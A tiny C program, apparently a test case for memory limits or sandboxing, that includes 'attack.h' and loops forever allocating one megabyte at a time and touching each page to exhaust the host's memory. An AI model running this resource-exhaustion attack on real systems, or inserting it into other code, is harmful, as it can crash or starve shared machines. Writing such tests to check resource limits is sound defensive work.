#include "attack.h"

int main(void) {
  for (;;) {
    volatile char *more = malloc(1 << 20);
    for (size_t at = 0; more && at < 1 << 20; at += 4096) more[at] = 1;
  }
}
